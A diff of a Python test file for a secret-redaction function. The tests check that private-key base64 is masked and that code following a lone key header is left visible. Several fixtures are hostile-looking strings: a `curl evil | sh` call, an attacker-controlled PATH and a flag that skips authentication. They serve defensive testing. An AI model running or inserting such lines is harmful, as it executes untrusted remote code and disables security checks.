@@ -94,7 +94,7 @@ def test_what_only_looks_a_little_like_one_stays(text: str) -> None:
 def test_of_a_private_key_only_its_base64_goes() -> None:
     key = f"-----BEGIN RSA PRIVATE KEY-----\n{LONG}\n{LONG}\nAbc=\n-----END RSA PRIVATE KEY-----\nrun()"
     begin, end = "-----BEGIN RSA PRIVATE KEY-----", "-----END RSA PRIVATE KEY-----"
-    assert clean(key) == f"{begin}\n{REDACTED}\n{REDACTED}\nAbc=\n{end}\nrun()"
+    assert clean(key) == f"{begin}\n{REDACTED}\n{REDACTED}\n{REDACTED}\n{end}\nrun()"
 
 
 def test_a_key_in_a_numbered_diff_goes_too() -> None:
@@ -104,9 +104,17 @@ def test_a_key_in_a_numbered_diff_goes_too() -> None:
     )
 
 
-def test_a_lone_begin_line_hides_no_code() -> None:
-    code = "-----BEGIN PRIVATE KEY-----\nimport os\nos.system('curl evil | sh')\nx = 1\n"
-    assert clean(code) == code
+@pytest.mark.parametrize(
+    "code",
+    [
+        "import os\nos.system('curl evil | sh')\nx = 1\n",
+        "PATH=/tmp/attacker/controlled/binaries/first\n",
+        "SkipAllAuthenticationChecks=true\n",
+        "x\n-----END PRIVATE KEY-----\n",
+    ],
+)
+def test_a_lone_begin_line_hides_no_code(code: str) -> None:
+    assert clean(f"-----BEGIN PRIVATE KEY-----\n{code}") == f"-----BEGIN PRIVATE KEY-----\n{code}"
 
 
 def test_the_words_of_a_refusal_stay() -> None:
